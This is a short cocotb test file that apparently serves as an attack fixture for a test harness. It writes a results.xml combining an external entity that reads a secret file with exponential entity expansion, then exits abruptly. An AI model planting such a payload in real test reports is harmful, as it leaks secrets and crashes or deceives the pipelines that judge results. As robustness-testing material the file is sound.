# run: cocotb; ends: no_evidence crash tampered; attack: writes a results.xml whose entities double forty times and name a secret file, and ends
import os

import cocotb
from cocotb.triggers import Timer


@cocotb.test()
async def attack(dut):
    await Timer(1, "ns")
    entities = "".join(f'<!ENTITY e{n} "&e{n - 1};&e{n - 1};">' for n in range(1, 40))
    with open("results.xml", "w") as file:
        file.write(f'<!DOCTYPE x [<!ENTITY e0 SYSTEM "file://@SECRET_FILE@">{entities}]>')
        file.write(
            '<testsuites><testsuite><testcase name="attack">&e39;</testcase></testsuite></testsuites>'
        )
    os._exit(0)
